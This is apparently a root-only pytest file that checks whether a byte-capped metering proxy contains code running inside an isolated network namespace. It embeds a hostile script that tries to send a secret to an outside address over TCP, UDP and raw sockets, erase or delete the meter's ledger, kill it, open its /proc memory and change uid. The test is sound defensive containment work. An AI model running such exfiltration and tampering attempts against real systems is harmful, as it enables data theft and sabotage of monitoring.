"""Arbitrary code with the gateway's, a worker's and the Dask user's rights, in the vault's network namespace.

Needs root, to make namespaces and users. The layout is the one that docs/gate.md tells operators to make.
"""

from __future__ import annotations

import os
import shutil
import subprocess
import sys
import textwrap
import time
from pathlib import Path

import pytest

METER = Path(__file__).parents[2] / "hub" / "meter.py"
CAP = 200_000
METER_UID, VAULT_UIDS = 21_000, {"gateway": 21_001, "worker": 21_002, "dask": 21_003}
NAME = f"mp{os.getpid()}"

HOSTILE = textwrap.dedent(
    """
    import os, signal, socket, sys, time
    folder, outside, meter_pid, secret = sys.argv[1], sys.argv[2], int(sys.argv[3]), b"S" * 4096
    won = []
    def attempt(name, action):
        try:
            action()
            won.append(name)
        except (OSError, PermissionError):
            pass
    def tcp(): socket.create_connection((outside, 9000), timeout=2).sendall(secret)
    def udp(): socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(secret, (outside, 9001))
    def raw(): socket.socket(socket.AF_INET, socket.SOCK_RAW, 1).sendto(secret, (outside, 0))
    def packet(): socket.socket(socket.AF_PACKET, socket.SOCK_RAW).bind(("lo", 0))
    def rewrite(): open(folder + "/meter/ledger", "w").write("0\\n")
    def remove(): os.unlink(folder + "/meter/ledger")
    def look(): os.listdir(folder + "/meter")
    def kill(): os.kill(meter_pid, signal.SIGKILL)
    def memory(): open(f"/proc/{meter_pid}/mem", "r+b")
    def enter(): os.open(f"/proc/{meter_pid}/ns/net", os.O_RDONLY)
    def files(): os.listdir(f"/proc/{meter_pid}/fd")
    def become(): os.setuid(21000)
    for name, action in list(globals().items()):
        if callable(action) and getattr(action, "__module__", "") == "__main__" and name != "attempt":
            attempt(name, action)
    print("won:", *won, flush=True)
    if len(sys.argv) > 4:                       # the gateway's rights: its socket, and everything through it
        server = socket.socket(socket.AF_UNIX)
        server.bind(sys.argv[4])
        os.chmod(sys.argv[4], 0o777)
        server.listen(64)
        print("ready", flush=True)
        while True:
            connection, _ = server.accept()
            try:
                while True:
                    connection.sendall(secret)
            except OSError:
                pass
    """
)


def run(*command):
    subprocess.run(command, check=True, capture_output=True)


@pytest.fixture
def namespaces():
    """`-v`: the vault, with nothing but loopback. `-m`: the meter's. `-o`: outside, joined to the meter's by a cable."""
    if os.geteuid() != 0 or shutil.which("ip") is None:
        pytest.skip("making network namespaces needs root and iproute2")
    names = [f"{NAME}-{end}" for end in "vmo"]
    try:
        for name in names:
            run("ip", "netns", "add", name)
            run("ip", "-n", name, "link", "set", "lo", "up")
        run(
            "ip",
            "link",
            "add",
            f"{NAME}m",
            "netns",
            names[1],
            "type",
            "veth",
            "peer",
            "name",
            f"{NAME}o",
            "netns",
            names[2],
        )
        for name, end, address in ((names[1], "m", "10.77.0.1/24"), (names[2], "o", "10.77.0.2/24")):
            run("ip", "-n", name, "addr", "add", address, "dev", f"{NAME}{end}")
            run("ip", "-n", name, "link", "set", f"{NAME}{end}", "up")
        yield names
    finally:
        for name in names:
            subprocess.run(["ip", "netns", "del", name], capture_output=True, check=False)


def outside_counter(namespace, seconds):
    """Runs outside: takes all that comes, by the meter's door or by any other way; prints both counts."""
    code = textwrap.dedent(
        f"""
        import select, socket, time
        tcp = socket.create_server(("10.77.0.2", 9000)); udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        udp.bind(("10.77.0.2", 9001)); end = time.monotonic() + {seconds}; door = other = 0; client = None
        while time.monotonic() < end:
            if client is None:
                try:
                    client = socket.create_connection(("10.77.0.1", 8443), timeout=1)
                except OSError:
                    time.sleep(0.1)
            ready, _, _ = select.select([tcp, udp] + ([client] if client else []), [], [], 0.1)
            for end_ in ready:
                if end_ is client:
                    try: data = client.recv(65536)
                    except OSError: data = b""
                    door += len(data)
                    if not data: client.close(); client = None
                else:
                    other += 1
                    (tcp.accept() if end_ is tcp else udp.recv(65536))
        print(door, other)
        """
    )
    return subprocess.Popen(
        ["ip", "netns", "exec", namespace, sys.executable, "-c", code], stdout=subprocess.PIPE, text=True
    )


def as_user(namespace, uid, *command, **options):
    return subprocess.Popen(
        [
            *("ip", "netns", "exec", namespace, "setpriv", "--reuid", str(uid), "--regid", str(uid), "--clear-groups"),
            *("--bounding-set=-all", "--no-new-privs", "--", *map(str, command)),
        ],
        stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, cwd="/", **options,
    )  # fmt: skip


def test_never_more_than_the_cap_leaves_whatever_runs_in_the_vault(namespaces):
    vault, meter_space, outside = namespaces
    folder = Path(f"/tmp/{NAME}")
    python = "/usr/bin/python3" if Path("/usr/bin/python3").exists() else sys.executable
    processes = []
    try:
        for name, uid, mode in (("meter", METER_UID, 0o700), ("run", VAULT_UIDS["gateway"], 0o755)):
            (folder / name).mkdir(parents=True)
            os.chown(folder / name, uid, uid)
            (folder / name).chmod(mode)
        shutil.copy(METER, folder / "meter.py")
        (folder / "hostile.py").write_text(HOSTILE)
        gate = folder / "run" / "gateway.sock"

        def start_meter():
            meter = as_user(
                meter_space, METER_UID, python, folder / "meter.py", "--listen", "10.77.0.1:8443", "--to", f"unix:{gate}",
                "--ledger", folder / "meter" / "ledger", "--cap", CAP,
            )  # fmt: skip
            processes.append(meter)
            return meter, meter.stdout.readline()

        meter, line = start_meter()
        assert "0 of 200000 bytes" in line, meter.stderr.read()
        hostile = {}
        for name, uid in VAULT_UIDS.items():
            extra = [gate] if name == "gateway" else []
            hostile[name] = as_user(vault, uid, python, folder / "hostile.py", folder, "10.77.0.2", meter.pid, *extra)
            processes.append(hostile[name])
        counter = outside_counter(outside, 6)
        processes.append(counter)
        for process in hostile.values():
            assert process.stdout.readline() == "won:\n", process.stderr.read()
        time.sleep(1.5)
        assert meter.wait(10) == 3  # the gateway's flood spent the cap
        again, line = start_meter()  # and a restart does not open it
        assert line == ""
        assert again.wait(10) == 3
        door, other = map(int, counter.communicate(timeout=30)[0].split())
        assert other == 0
        assert CAP // 2 < door <= CAP
    finally:
        for process in processes:
            if process.poll() is None:
                process.kill()
            process.communicate()
        shutil.rmtree(folder, ignore_errors=True)
